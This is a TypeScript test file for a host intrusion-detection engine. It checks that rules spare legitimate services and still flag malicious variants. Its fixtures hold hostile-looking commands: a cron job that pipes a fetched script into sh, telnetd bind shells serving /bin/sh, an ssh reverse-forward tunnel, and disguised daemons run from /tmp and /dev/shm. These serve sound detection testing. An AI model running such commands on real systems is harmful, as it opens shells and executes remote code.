// What the thirteenth blind corpus taught, each with the form that stays a finding: blockchain nodes' and SAP HANA's
// ports, Homer's capture agent, Cockpit's and Jenkins's SSH to the hosts they manage, a daemon's name spelled with
// digits, and GitLab's ExifTool advisory.
import { test } from "tap";
import { getDetection } from "../../shared/engine/index.js";
import type { DetectionHit, HostData } from "../../shared/engine/index.js";
import { host, proc, sock } from "./helpers.js";

const findings = (id: string, h: HostData): DetectionHit[] => (getDetection(id)?.evaluate(h, { entities: { ips: [], sha256: [], advisories: [], users: [], ports: [], paths: [], domains: [], tags: {} } }) ?? []).filter((x) => x.kept_by === undefined);
const listener = (pid: number, port: number, name: string, path: string) =>
  host({ processes: [proc(pid, name, path, path, { uid: "990" })], listening_ports: [{ pid: String(pid), port: String(port), address: "0.0.0.0", protocol: "6" }] });

test("blockchain full nodes and SAP HANA on their documented ports", async (t) => {
  t.same(findings("unexpected-listener", listener(1, 8333, "bitcoind", "/usr/local/bin/bitcoind")), []);
  t.same(findings("unexpected-listener", listener(2, 30303, "geth", "/usr/local/bin/geth")), []);
  t.same(findings("unexpected-listener", listener(3, 9000, "lighthouse", "/usr/local/bin/lighthouse")), []);
  t.same(findings("unexpected-listener", listener(4, 30015, "hdbindexserver", "/usr/sap/HDB/HDB00/exe/hdbindexserver")), []);
  t.ok(findings("unexpected-listener", listener(5, 4444, "geth", "/usr/local/bin/geth")).length > 0, "geth on a port not its own");
  t.ok(findings("unexpected-listener", listener(6, 8333, "bitcoind", "/tmp/bitcoind")).length > 0, "from a temp directory");
});

test("Homer's heplify holds a packet socket from its own directory", async (t) => {
  const packet = (path: string) => host({ processes: [proc(10, "heplify", path, `${path} -i any -hs 10.70.0.50:9060`)], process_open_sockets: [{ pid: "10", fd: "7", socket: "1", family: "17", protocol: "768", local_address: "", remote_address: "", local_port: "0", remote_port: "0", state: "NONE" }] });
  t.same(findings("packet-socket-backdoor", packet("/opt/heplify/heplify")), []);
  t.ok(findings("packet-socket-backdoor", packet("/dev/shm/heplify")).length > 0);
});

test("Cockpit's and a Jenkins controller's SSH to the machines they manage; java without Jenkins is not one", async (t) => {
  const ssh = (name: string, path: string, cmdline: string) => host({ processes: [proc(20, name, path, cmdline, { uid: "110" })], process_open_sockets: [sock(20, "10.210.0.11", 22)] });
  t.same(findings("lateral-admin-connection", ssh("cockpit-ws", "/usr/libexec/cockpit-ws", "/usr/libexec/cockpit-ws --for-tls-proxy --port=0")), []);
  t.same(findings("lateral-admin-connection", ssh("java", "/usr/lib/jvm/java-17-openjdk-amd64/bin/java", "/usr/bin/java -Djava.awt.headless=true -jar /usr/share/java/jenkins.war --httpPort=8080")), []);
  t.ok(findings("lateral-admin-connection", ssh("java", "/usr/lib/jvm/java-17-openjdk-amd64/bin/java", "java -jar /tmp/x.jar")).length > 0, "another Java program");
  t.ok(findings("lateral-admin-connection", ssh("java", "/usr/lib/jvm/java-17-openjdk-amd64/bin/java", "java -jar /tmp/x.jar --name /usr/share/java/jenkins.war")).length > 0, "jenkins.war only mentioned");
  t.ok(findings("lateral-admin-connection", ssh("cockpit-ws", "/tmp/cockpit-ws", "/tmp/cockpit-ws")).length > 0, "the name elsewhere");
});

test("a daemon's name spelled with digits for letters or behind a dot; the daemons' own names and suffixes with digits are not", async (t) => {
  const p = (name: string, path: string) => findings("process-masquerading", host({ processes: [proc(30, name, path, path)] }));
  t.equal(p(".po1kitd-update", "/root/.po1kitd.thumb/.po1kitd-update-k").length, 1);
  t.equal(p("ssh5d", "/usr/local/sbin/ssh5d").length, 0, "not a spelling of sshd");
  t.equal(p("dbu5-daemon", "/usr/local/bin/dbu5-daemon").length, 1);
  t.same(p("containerd-shim-runc-v2", "/usr/bin/containerd-shim-runc-v2"), []);
  t.same(p("polkitd", "/usr/lib/polkit-1/polkitd"), []);
});

test("GitLab's ExifTool RCE (CVE-2021-22205) in the Omnibus package's versions", async (t) => {
  const gitlab = (version: string) => findings("vulnerable-package", host({ deb_packages: [{ name: "gitlab-ce", version }] })).filter((x) => /CVE-2021-22205/.test(x.summary));
  t.equal(gitlab("13.10.2-ce.0").length, 1);
  t.equal(gitlab("13.10.2-ce.0")[0]?.severity, "critical");
  t.same(gitlab("13.10.3-ce.0"), []);
  t.same(gitlab("13.9.6-ce.0"), []);
  t.equal(gitlab("12.10.1-ce.0").length, 1);
  t.same(gitlab("11.8.0-ce.0"), []);
});

test("the second review's borrowed forms stay findings: Jenkins by mention, a tunnel named sshd, telnetd's -E, interpreter scripts that only mention a runtime's token, an inside address a command uses", async (t) => {
  const ssh = (path: string, cmdline: string) => host({ processes: [proc(40, "java", path, cmdline, { uid: "110" })], process_open_sockets: [sock(40, "10.210.0.11", 22)] });
  for (const [path, cmd] of [
    ["/usr/lib/jvm/java-17-openjdk-amd64/bin/java", "java -cp /tmp/.p.jar Pivot -jar /usr/share/java/jenkins.war"],
    ["/usr/lib/jvm/java-17-openjdk-amd64/bin/java", "java -jar /tmp/.p.jar -jar /usr/share/java/jenkins.war"],
    ["/tmp/x/bin/java", "java -jar /usr/share/java/jenkins.war"],
  ] as const) t.ok(findings("lateral-admin-connection", ssh(path, cmd)).length > 0, `${path} ${cmd}`);

  const login = { user: "root", host: "127.0.0.1", tty: "pts/1", type: "user", time: "1731900000", pid: "4242" };
  const renamed = host({ logged_in_users: [login], processes: [proc(50, "sshd", "/tmp/.x/sshd", "sshd")], process_open_sockets: [sock(50, "127.0.0.1", 22, { local_address: "127.0.0.1" })] });
  t.equal(findings("remote-root-login", renamed).length, 1, "a tunnel named sshd outside sshd's path");
  const forward = host({ logged_in_users: [login], processes: [proc(51, "ssh", "/usr/bin/ssh", "ssh -o RemoteForward=2222:127.0.0.1:22 u@198.51.100.9")], process_open_sockets: [sock(51, "127.0.0.1", 22, { local_address: "127.0.0.1" })] });
  t.equal(findings("remote-root-login", forward).length, 1, "ssh -o RemoteForward");

  const tl = (cmdline: string) => host({ processes: [proc(60, "in.telnetd", "/usr/sbin/in.telnetd", cmdline)], listening_ports: [{ pid: "60", port: "23", address: "0.0.0.0", protocol: "6" }] });
  t.ok(findings("unexpected-listener", tl("in.telnetd -L /bin/sh")).length > 0);
  t.same(findings("unexpected-listener", tl("in.telnetd")), []);
  const bb = host({ processes: [proc(61, "telnetd", "/bin/busybox", "telnetd -p 23 -l /bin/sh -f -l/bin/login")], listening_ports: [{ pid: "61", port: "23", address: "0.0.0.0", protocol: "6" }] });
  t.ok(findings("unexpected-listener", bb).length > 0, "-f takes the next word as its value: the login program is /bin/sh");

  const py = (cmdline: string, port: number) => host({ processes: [proc(70, "python3", "/usr/bin/python3", cmdline, { uid: "1000" })], listening_ports: [{ pid: "70", port: String(port), address: "0.0.0.0", protocol: "6" }] });
  t.ok(findings("unexpected-listener", py("python3 /home/u/.x.py --cfg /usr/local/bin/torchrun", 29400)).length > 0);
  t.ok(findings("unexpected-listener", py("python3 /home/u/.x.py -m localstack.x", 4566)).length > 0);
  t.same(findings("unexpected-listener", py("python3 -m localstack.runtime.main", 4566)), []);

  const ioc = getDetection("ioc-match");
  const cron = host({ crontab: [{ command: "curl -s http://10.20.30.40/x.sh | sh", path: "/etc/cron.d/u" }] });
  const hits = ioc?.evaluate(cron, { entities: { ips: ["10.20.30.40"], sha256: [], advisories: [], users: [], ports: [], paths: [], domains: [], tags: {} } }) ?? [];
  t.equal(hits[0]?.severity ?? "medium", "medium", "an inside address a cron job fetches from keeps its severity");
});
